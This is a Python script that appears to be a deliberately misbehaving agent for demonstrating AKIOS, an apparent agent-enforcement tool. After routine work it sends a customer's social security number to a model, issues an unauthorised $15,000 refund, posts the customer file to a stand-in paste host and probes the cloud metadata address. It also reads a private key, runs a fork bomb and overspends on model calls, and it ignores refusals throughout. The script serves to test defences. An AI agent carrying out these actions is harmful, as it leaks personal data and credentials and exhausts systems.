"""The demo's agent: an ordinary program that knows nothing of AKIOS, and behaves badly in the ways agents do.

It does its work (reads customers, asks a model, looks into the CRM) and then tries what it should not. For every
attempt it prints one JSON line: what it tried, and what came of it, as it sees it. It needs the standard library alone.
"""

from __future__ import annotations

import http.client
import json
import os
import pathlib
import signal
import socket
import sys
from collections.abc import Callable
from typing import Any

MODEL = "gpt-4o"


def call(method: str, host: str, path: str, document: object = None) -> tuple[int, Any]:
    """One https request: status and JSON."""
    body = None if document is None else json.dumps(document)
    headers = {"Content-Type": "application/json", "Authorization": "Bearer sk-demo"}
    connection = http.client.HTTPSConnection(host, timeout=20)
    try:
        connection.request(method, path, body, headers)
        answer = connection.getresponse()
        return answer.status, json.loads(answer.read() or b"null")
    finally:
        connection.close()


def ask(text: str, max_tokens: int = 200) -> tuple[int, Any]:
    """Ask the model."""
    question = {"model": MODEL, "max_tokens": max_tokens, "messages": [{"role": "user", "content": text}]}
    return call("POST", "api.openai.com", "/v1/chat/completions", question)


def read_customers() -> dict[str, Any]:
    customers = [json.loads(line) for line in pathlib.Path("customers.jsonl").read_text().splitlines()]
    return {"outcome": f"{len(customers)} customers"}


def draft_reply() -> dict[str, Any]:
    customer = json.loads(pathlib.Path("customers.jsonl").read_text().splitlines()[0])
    text = (
        f"Draft a reply to {customer['name']} about order {customer['order']}. Contact: {customer['email']}, "
        f"{customer['phone']}. Social security number for the record: {customer['ssn']}."
    )
    status, answer = ask(text)
    return {**told(status, answer), "prompt": text}


def look_up() -> dict[str, Any]:
    return told(*call("GET", "internal-crm.corp", "/customers/4822"))


def refund() -> dict[str, Any]:
    return told(*call("POST", "internal-crm.corp", "/customers/4822", {"refund_usd": 15000}))


def list_models() -> dict[str, Any]:
    return told(*call("GET", "api.openai.com", "/v1/models"))


def exfiltrate() -> dict[str, Any]:
    return told(*call("POST", "paste.example.net", "/", pathlib.Path("customers.jsonl").read_text()))


def metadata() -> dict[str, Any]:
    with socket.create_connection(("169.254.169.254", 80), timeout=20):
        return {"outcome": "connected"}


def private_key() -> dict[str, Any]:
    return {"outcome": f"read {len(pathlib.Path(sys.argv[1]).read_text())} bytes"}


def fork_bomb() -> dict[str, Any]:
    children: list[int] = []
    try:
        while len(children) < 10_000:
            child = os.fork()
            if child == 0:
                signal.pause()
            children.append(child)
        return {"outcome": f"{len(children)} processes"}
    except OSError as error:
        return {"outcome": f"stopped at {len(children)} processes: {error.strerror}", "refused": True}
    finally:
        for child in children:
            os.kill(child, signal.SIGKILL)
            os.waitpid(child, 0)


def overspend() -> dict[str, Any]:
    for calls in range(100):
        status, answer = ask("Think about everything again, at length.", max_tokens=2000)
        if status != 200:
            return {**told(status, answer), "calls": calls}
    return {"outcome": "100 calls answered"}


def told(status: int, answer: Any) -> dict[str, Any]:
    """What an answer says, also when it is a refusal."""
    if isinstance(answer, dict) and isinstance(answer.get("error"), dict):
        error = answer["error"]
        return {"outcome": f"{status} {error.get('code')}", "refused": True, **error}
    return {"outcome": f"{status}"}


ATTEMPTS: dict[str, Callable[[], dict[str, Any]]] = {
    "read_customers": read_customers,
    "draft_reply": draft_reply,
    "look_up": look_up,
    "refund": refund,
    "list_models": list_models,
    "exfiltrate": exfiltrate,
    "metadata": metadata,
    "private_key": private_key,
    "fork_bomb": fork_bomb,
    "overspend": overspend,
}


def main() -> None:
    """Make every attempt; a refusal is no reason to stop for an agent like this."""
    for name, attempt in ATTEMPTS.items():
        try:
            result = attempt()
        except OSError as error:
            result = {"outcome": f"{type(error).__name__}: {error.strerror or error}", "refused": True}
        print(json.dumps({"attempt": name, **result}), flush=True)


if __name__ == "__main__":
    main()
